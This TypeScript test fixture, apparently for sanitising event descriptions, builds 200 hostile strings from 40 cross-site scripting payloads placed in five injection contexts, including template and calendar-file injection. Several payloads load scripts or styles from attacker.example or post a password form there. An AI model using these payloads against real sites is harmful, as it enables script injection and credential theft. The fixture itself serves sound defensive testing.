/** What runs where a text is taken for markup, each in its own way. */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<script src="https://attacker.example/x.js"></script>',
  '<script type="module">import("https://attacker.example/x.js")</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<ScRiPt\n>alert(1)</sCrIpT\t>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"//>',
  '<img/src/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text y="1em">Tickets</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=alert(1)>">',
  '<math href="javascript:alert(1)">CLICK</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://attacker.example/x.svg">',
  '<base href="https://attacker.example/">',
  '<meta http-equiv="refresh" content="0;url=https://attacker.example/">',
  '<link rel="stylesheet" href="https://attacker.example/x.css">',
  '<style>@import "https://attacker.example/x.css"; body { display: none }</style>',
  '<div style="background:url(javascript:alert(1));position:fixed;inset:0">x</div>',
  '<form action="https://attacker.example/"><input name="password"><button>Sign in</button></form>',
  '<button formaction="javascript:alert(1)" form="checkout">Pay</button>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src onloadstart=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<a href="javascript:alert(1)">Tickets</a>',
  '<a href="java&#x09;script:alert(1)">Tickets</a>',
  '<a href="data:text/html,<script>alert(1)</script>">Tickets</a>',
  '<template shadowrootmode=open><slot onslotchange=alert(1)></slot></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;',
]

/** Where a text may end up, and what would lead out of there: an element, an attribute, a script with data, a comment, a calendar file. */
const PLACES: ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `Doors at nine.\n\n${payload}\n\nSee you on the floor.`,
  (payload) => `"'></p></div></main>${payload}`,
  (payload) => `</script>\u2028*/--></style></title></textarea>${payload}<!--`,
  (payload) => `{{constructor.constructor("alert(1)")()}}\${alert(1)}\r\nEND:VEVENT\r\nX-EVIL:1 ${payload}`,
]

/** Descriptions as an attacker writes them: 200 documents. */
export const HOSTILE_DOCUMENTS: readonly string[] = PAYLOADS.flatMap((payload) =>
  PLACES.map((place) => place(payload)),
)
